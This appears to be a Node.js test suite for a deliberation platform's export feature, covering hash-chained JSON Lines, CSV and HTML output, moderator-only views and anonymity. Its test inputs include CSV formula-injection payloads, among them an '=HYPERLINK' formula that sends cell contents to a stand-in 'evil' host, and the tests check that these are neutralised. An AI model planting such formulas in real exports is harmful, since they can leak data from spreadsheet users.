// plenaria export: a room's record as JSON Lines that a stranger can check, as a table and as a page.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFile, readdir, stat } from 'node:fs/promises';
import { test } from 'node:test';

import { CONFIG, UNLIMITED, connect, dialogueOf, operator, plenaria, rpc, startRedis, startServer, statement, succeed, temporaryDirectory } from './harness.mjs';
import { plain, readTable } from './table.mjs';

const hash = (text) => createHash('sha256').update(text).digest('base64url');
const linesOf = (file) => file.trimEnd().split('\n').map((line) => JSON.parse(line));

/** A room with something of everything. */
async function stage(t, rules = '') {
  const config = await dialogueOf(t, { hall: rules });
  const server = await startServer(t, { config, settings: UNLIMITED });
  const person = async (name, delegation) => connect(t, server, { token: await server.token({ role: 'delegate', name, delegation, group: 'academia' }) });
  const [ana, bruno] = [await person('Ana Pérez', 'Costa Rica'), await person('Bruno', '=cmd()')];
  const say = async (who, text, more) => (await who.request('intervention.submit', statement('hall', text, more))).intervention;
  const first = await say(ana, 'Good morning.\n\nA second paragraph, with "quotes" and, commas.', { themes: ['one'], sources: ['https://example.org/a', 'https://example.org/b'] });
  const second = await say(bruno, '=1+1', { in_reply_to: first.id, kind: 'answer', on_behalf_of: '@group' });
  const third = await say(ana, 'Never mind.');
  await ana.request('intervention.withdraw', { room: 'hall', id: third.id, version: 1 });
  return { config, server, give: operator(t, { config, dataDir: server.dataDir }), ids: [first.id, second.id, third.id] };
}

test('JSON Lines: a stranger follows the chain and opens every text with the salt, by the file and SHA-256 alone', async (t) => {
  const { give, ids, server } = await stage(t);
  const file = await succeed(give('export', '--room', 'hall'));
  const [about, ...rest] = linesOf(file);
  const entries = rest.slice(0, -1);
  assert.equal(about.format, 'plenaria export');
  assert.equal(about.audience, 'public');
  assert.equal(about.seq, 4);
  assert.equal(about.key_set.keys.length, 1);
  let previous = 'A'.repeat(43);
  for (const [i, { seq, header, event, salt }] of entries.entries()) {
    const said = JSON.parse(header);
    assert.equal(seq, i + 1);
    assert.equal(said.seq, i + 1);
    assert.equal(said.prev, previous);
    previous = hash(header);
    assert.equal(event.type, said.type);
    assert.ok(!('by' in said) && !('key' in said));
    const shown = event.data.intervention;
    if (shown) assert.equal(hash(`${salt}\n${JSON.stringify({ sources: shown.sources, text: shown.text })}`), said.text);
    else assert.equal(salt, undefined);
  }
  assert.equal(about.hash, previous);
  assert.deepEqual(entries.map(({ event }) => event.data.intervention?.id ?? event.data.id), [...ids, ids[2]]);
  assert.deepEqual(entries[2].event.data, { id: ids[2], status: 'withdrawn' });
  // The event is the one that a follower is told now.
  const { result } = await rpc(server, 'room.join', { room: 'hall', after: { epoch: about.epoch, seq: 0 } });
  assert.deepEqual(entries.map(({ event }) => event), result.events);
  const { end } = rest.at(-1);
  assert.equal(end.lines, rest.length);
  assert.equal(end.sha256, hash(file.slice(0, file.lastIndexOf('\n', file.length - 2) + 1)));
  assert.ok(!file.includes('Never mind'));
});

test('a table: a row for each intervention, every text as it was, nothing that a spreadsheet would run', async (t) => {
  const { give, ids } = await stage(t);
  const file = await succeed(give('export', '--room', 'hall', '--format', 'csv'));
  const [first, second, third, ...more] = readTable(file);
  assert.equal(more.length, 0);
  assert.equal(first.text, 'Good morning.\n\nA second paragraph, with "quotes" and, commas.');
  assert.deepEqual([first.seq, first.kind, first.status, first.language, first.name, first.delegation, first.group, plain(first.id)],
    ['1', 'statement', 'published', 'en', 'Ana Pérez', 'Costa Rica', 'academia', ids[0]]);
  assert.equal(first.sources, 'https://example.org/a https://example.org/b');
  assert.deepEqual([second.text, second.delegation, second.on_behalf_of, plain(second.in_reply_to)], ["'=1+1", "'=cmd()", "'@group", ids[0]]);
  assert.deepEqual([third.status, third.text, third.name, plain(third.id)], ['withdrawn', '', '', ids[2]]);
  const headers = linesOf(await succeed(give('export', '--room', 'hall'))).slice(1, 4).map(({ header }) => hash(header));
  assert.deepEqual([first, second, third].map((row) => plain(row.header_hash)), headers);
});

test('a table: no cell is a formula, whether cells end at commas or, as in other countries, at semicolons and line breaks', async (t) => {
  const server = await startServer(t, { config: await dialogueOf(t, { hall: '' }) });
  const author = await connect(t, server, { token: await server.token({ role: 'delegate', name: 'Ana;=1' }) });
  await author.request('intervention.submit', statement('hall', 'Thank you;=HYPERLINK("http://evil/?"&A1);and\n=1+1;x\n@SUM(1);y'));
  const file = await succeed(operator(t, { config: server.config, dataDir: server.dataDir })('export', '--room', 'hall', '--format', 'csv'));
  const [row] = readTable(file);
  assert.equal(row.text, 'Thank you;\'=HYPERLINK("http://evil/?"&A1);and\n\'=1+1;x\n\'@SUM(1);y');
  assert.equal(row.name, "Ana;'=1");
  for (const cells of [Object.values(row), file.split(/[;\t\r\n]/)]) {
    assert.ok(cells.length > 10);
    for (const cell of cells) assert.doesNotMatch(cell, /^[\s"]*[=+\-@]/, cell);
  }
});

test('a page in the language that was asked for; an unknown one is a mistake that names those there are', async (t) => {
  const server = await startServer(t);
  const author = await connect(t, server, { token: await server.token({ role: 'delegate', name: 'Ana' }) });
  await author.request('intervention.submit', statement('ny-human-rights', 'Guten Morgen <b>&</b>', { language: 'de' }));
  const give = operator(t, { config: CONFIG, dataDir: server.dataDir });
  for (const [language, title] of [['es', 'Derechos humanos de los migrantes – Acta – '], ['fr', 'Droits de l’homme des migrants – Compte rendu – '], ['en', 'Human rights of migrants – Record – ']]) {
    const page = await succeed(give('export', '--room', 'ny-human-rights', '--format', 'html', '--language', language));
    assert.ok(page.includes(`<html lang="${language}" dir="ltr">`));
    assert.ok(page.includes(`<title>${title}`));
    assert.ok(page.includes('lang="de" dir="auto">Guten Morgen &lt;b&gt;&amp;&lt;/b&gt;</div>'));
    assert.ok(!page.includes('<script'));
  }
  const { code, stderr } = await give('export', '--room', 'ny-human-rights', '--format', 'html', '--language', 'tlh');
  assert.equal(code, 2);
  assert.match(stderr, /^plenaria: --language is one of the dialogue's: es, en, fr\n$/);
});

test('the desk view is for whoever has the record key at hand, and for nobody else', async (t) => {
  const config = await dialogueOf(t, { hall: 'moderation = "pre"' });
  const redis = await startRedis(t);
  const server = await startServer(t, { config, redis });
  const author = await connect(t, server, { token: await server.token({ role: 'delegate', name: 'Ana' }) });
  await author.request('intervention.submit', statement('hall', 'Waiting for a moderator.'));
  const directory = await temporaryDirectory(t);
  const elsewhere = operator(t, { config, dataDir: directory, redis });
  const refused = await elsewhere('export', '--room', 'hall', '--desk');
  assert.equal(refused.code, 2);
  assert.equal(refused.stdout, '');
  assert.match(refused.stderr, /^plenaria: --desk writes what only moderators may see[^\n]*--data\n$/);
  assert.deepEqual(await readdir(directory), [], 'no key is made by looking for one');
  const shown = await succeed(elsewhere('export', '--room', 'hall'));
  assert.ok(!shown.includes('Waiting'));
  assert.equal(linesOf(shown).at(-1).end.signature, null);
  // Nothing is public yet; that is a record too.
  const empty = `${directory}/empty.jsonl`;
  await succeed(elsewhere('export', '--room', 'hall', '--output', empty));
  assert.match(await succeed(plenaria(t, 'verify', empty)), /it holds\. The public record of the room test\/hall, 0 entries\./);

  const file = `${directory}/desk.jsonl`;
  const here = operator(t, { config, dataDir: server.dataDir, redis });
  await succeed(here('export', '--room', 'hall', '--desk', '--output', file));
  assert.equal((await stat(file)).mode & 0o777, 0o600);
  const [about, opened, submitted] = linesOf(await readFile(file, 'utf8'));
  assert.equal(about.audience, 'desk');
  assert.equal(JSON.parse(opened.header).type, 'room.opened');
  assert.equal(submitted.event.data.intervention.status, 'pending');
  assert.equal(JSON.parse(submitted.body).text, 'Waiting for a moderator.');
  assert.equal(submitted.public_header, '');
});

test("the desk's table says what became of each intervention: who decided, when and why", async (t) => {
  const server = await startServer(t, { config: await dialogueOf(t, { hall: 'moderation = "pre"' }) });
  const person = async (role, name, more) => connect(t, server, { token: await server.token({ role, name, ...more }) });
  const [ana, mo] = [await person('delegate', 'Ana'), await person('moderator', 'Mo', { id: 'mo-1', delegation: 'Secretariat' })];
  const submit = async (text) => (await ana.request('intervention.submit', statement('hall', text))).intervention;
  const act = (verb, { id, version }, more) => mo.request(`intervention.${verb}`, { room: 'hall', id, version, ...more });
  const [first, second] = [await submit('One.'), await submit('Two.')];
  await act('return', first, { reason: '=Too short.' });
  await act('publish', second);
  await submit('Three.');
  const give = operator(t, { config: server.config, dataDir: server.dataDir });
  const rows = readTable(await succeed(give('export', '--room', 'hall', '--desk', '--format', 'csv')));
  assert.deepEqual(rows.map((row) => [row.text, row.status, row.act, row.reason, row.act_by, row.act_by_name, row.act_by_delegation]), [
    ['One.', 'returned', 'return', "'=Too short.", 'mo-1', 'Mo', 'Secretariat'],
    ['Two.', 'published', 'publish', '', 'mo-1', 'Mo', 'Secretariat'],
    ['Three.', 'pending', '', '', '', '', ''],
  ]);
  for (const row of rows.slice(0, 2)) assert.ok(Date.parse(row.act_at) >= Date.parse(row.at), row.act_at);
  const [row] = readTable(await succeed(give('export', '--room', 'hall', '--format', 'csv')));
  assert.deepEqual(Object.keys(row).filter((name) => /act|reason/.test(name)), [], 'nothing of it for the public');
});

test('in a room without attribution no form of the export tells who spoke, or exactly when', async (t) => {
  const { give } = await stage(t, 'attribution = "none"');
  const desk = linesOf(await succeed(give('export', '--room', 'hall', '--desk')));
  const times = desk.slice(2, -1).map(({ header }) => JSON.parse(header).at).filter((at) => at % 900_000 !== 0);
  assert.ok(times.length > 0);
  for (const format of ['jsonl', 'csv', 'html']) {
    const file = await succeed(give('export', '--room', 'hall', '--format', format));
    for (const who of ['Ana', 'Bruno', 'Costa Rica', 'cmd()', 'academia', 'Academia', '@group']) assert.ok(!file.includes(who), `${format}: ${who}`);
    for (const at of times) {
      assert.ok(!file.includes(String(at)), format);
      assert.ok(!file.includes(new Date(at).toISOString()), format);
    }
    for (const { header } of desk.slice(2, -1)) {
      const { by, key, content } = JSON.parse(header);
      for (const secret of [by, key, content]) assert.ok(secret === undefined || !file.includes(secret), format);
    }
  }
});

test('what cannot be exported: one line, nothing written, nothing left behind', async (t) => {
  const config = await dialogueOf(t, { hall: '' });
  const server = await startServer(t, { config });
  const give = operator(t, { config, dataDir: server.dataDir });
  const directory = await temporaryDirectory(t);
  for (const [args, code] of [[['--room', 'cellar'], 2], [['--room', 'hall', '--format', 'pdf'], 2], [['--room', 'hall', '--output', `${directory}/no/where`], 1]]) {
    const run = await give('export', ...args);
    assert.equal(run.code, code, args.join(' '));
    assert.equal(run.stdout, '');
    assert.match(run.stderr, /^plenaria: [^\n]+\n$/);
  }
  assert.deepEqual(await readdir(directory), []);
  const full = await give('export', '--room', 'hall', '--output', '/dev/full');
  assert.equal(full.code, 1);
  assert.match(full.stderr, /cannot be written/);
});
